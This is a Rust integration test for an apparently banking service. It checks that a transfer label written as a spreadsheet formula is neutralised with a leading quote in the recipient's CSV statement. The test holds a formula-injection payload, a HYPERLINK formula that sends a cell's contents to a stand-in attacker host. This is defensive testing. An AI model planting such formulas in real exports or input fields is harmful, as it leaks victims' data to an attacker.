//! A statement's CSV is safe to open in a spreadsheet: text someone else wrote (a transfer's
//! label) never becomes a formula.

use reqwest::StatusCode;
use serde_json::json;
use time::OffsetDateTime;

use crate::both_engines_with_clock;
use crate::helpers::{ManualClock, TestApp, UserClient};
use crate::holds::{eur, funded_account, id, post_once};

both_engines_with_clock!(a_label_written_as_a_formula_is_neutralised_in_the_receivers_csv);

/// The label an attacker puts on a small transfer to a victim.
const FORMULA: &str = r#"=HYPERLINK("http://evil.example/?x="&A1,"Refund")"#;

/// `YYYY-MM` of an instant.
fn month_of(instant: OffsetDateTime) -> String {
    format!("{:04}-{:02}", instant.year(), u8::from(instant.month()))
}

/// The account's statement of `month` as CSV text.
pub(crate) async fn csv_statement(
    client: &UserClient,
    account: &str,
    month: &str,
) -> anyhow::Result<String> {
    let response = client
        .request(
            reqwest::Method::GET,
            &format!("/v1/accounts/{account}/statement?month={month}"),
        )
        .header("Accept", "text/csv")
        .send()
        .await?;
    anyhow::ensure!(response.status() == StatusCode::OK, "{}", response.status());
    Ok(response.text().await?)
}

async fn a_label_written_as_a_formula_is_neutralised_in_the_receivers_csv(
    app: TestApp,
    clock: ManualClock,
) -> anyhow::Result<()> {
    let (attacker, _, source) = funded_account(&app, "mallory@example.org", "10.00").await?;
    let (victim, _, destination) = funded_account(&app, "ada@example.org", "0.00").await?;
    let transfer = json!({"type": "TRANSFER", "source_account_id": source,
        "destination_account_id": destination, "amount": eur("0.01"), "label": FORMULA});
    let response = post_once(&attacker, "/v1/transactions", &transfer).await?;
    assert_eq!(response.status(), StatusCode::CREATED);
    let transaction = id(&response.json().await?)?;

    let month = month_of(coffre_app::ports::Clock::now(&clock));
    let text = csv_statement(&victim, &destination, &month).await?;
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let rows = reader.records().collect::<Result<Vec<_>, _>>()?;
    let row = rows
        .iter()
        .find(|row| row.get(2) == Some(transaction.as_str()))
        .ok_or_else(|| anyhow::anyhow!("the transfer is not in the statement: {text}"))?;
    // A spreadsheet reads a leading `'` as "text": the label shows, intact, and never runs.
    assert_eq!(row.get(4), Some(format!("'{FORMULA}").as_str()));
    assert_eq!(row.get(6), Some("0.01"), "amounts stay numbers");
    for cell in rows.iter().flatten() {
        assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "{cell:?}");
    }
    Ok(())
}
